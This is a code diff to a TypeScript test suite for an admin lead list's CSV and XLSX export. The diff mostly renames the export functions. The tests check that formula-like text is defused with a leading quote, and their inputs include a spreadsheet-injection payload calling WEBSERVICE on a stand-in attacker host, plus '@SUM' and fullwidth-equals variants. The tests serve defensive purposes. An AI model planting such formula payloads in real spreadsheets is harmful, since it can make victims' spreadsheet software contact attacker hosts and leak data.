@@ -9,7 +9,7 @@ import { useDeskWatch } from '#src/data/reads/admin-queries.ts';
 import type { DeskFilter, DeskRow } from '#src/data/ports/desk-port.ts';
 import type { LeadDetails } from '#src/data/ports/leads-port.ts';
 import { DeskPage } from '#src/features/desk/admin/list/DeskPage.tsx';
-import { toCsv, toXlsx } from '#src/features/desk/admin/list/save-csv.ts';
+import { csvOf, REQUEST_COLUMNS, xlsxOf } from '#src/features/desk/admin/list/save-csv.ts';
 import { AppError } from '#src/lib/app-error.ts';
 import { addDays, dayInIndia } from '#src/lib/india-time.ts';
 import { renderAdmin } from '#tests/support/admin-surroundings.tsx';
@@ -210,7 +210,7 @@ test('a text that a spreadsheet would run is none in the file', () => {
     samples: ['two\nlines'],
     mail: 'fine',
   };
-  const [head, ...cells] = toCsv([row]).slice(1).split('\r\n');
+  const [head, ...cells] = csvOf(REQUEST_COLUMNS, [row]).slice(1).split('\r\n');
   expect(head).toContain('"Reference","Kind","Received","Name","Company","E-mail"');
   const text = cells.join('\r\n');
   // Indian time.
@@ -220,9 +220,9 @@ test('a text that a spreadsheet would run is none in the file', () => {
     expect(text).not.toMatch(new RegExp(`(^|,)"?\\${formula}`));
   }
   expect(text).toContain('"A ""quoted"", one; two\nlines","two\nlines"');
-  expect(toCsv([{ ...row, name: '＝1+1', company: '' }])).toContain('"\'＝1+1",""');
+  expect(csvOf(REQUEST_COLUMNS, [{ ...row, name: '＝1+1', company: '' }])).toContain('"\'＝1+1",""');
   // Where the comma separates nothing, a semicolon within a text begins a cell.
-  const inner = toCsv([
+  const inner = csvOf(REQUEST_COLUMNS, [
     { ...row, name: 'Asha;=WEBSERVICE("https://evil.example");', company: 'A\t @SUM(1)' },
   ]);
   expect(inner).toContain(`"Asha;'=WEBSERVICE(""https://evil.example"");","A\t' @SUM(1)"`);
@@ -251,8 +251,10 @@ test.each([
   ['23 x 36', '23 x 36'],
 ])('%s stays what it is when Excel opens the file', (company, cell) => {
   const row: DeskRow = { ...lead('a'), categories: [], papers: [], samples: [], company, mail: 'fine' };
-  expect(toCsv([row])).toContain(`,"${cell.replaceAll('"', '""')}",`);
-  const sheet = strFromU8(unzipSync(toXlsx([row]))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
+  expect(csvOf(REQUEST_COLUMNS, [row])).toContain(`,"${cell.replaceAll('"', '""')}",`);
+  const sheet = strFromU8(
+    unzipSync(xlsxOf('Requests', REQUEST_COLUMNS, [row]))['xl/worksheets/sheet1.xml'] ?? new Uint8Array(),
+  );
   expect(sheet).toContain(`>${company}</t>`);
 });
 
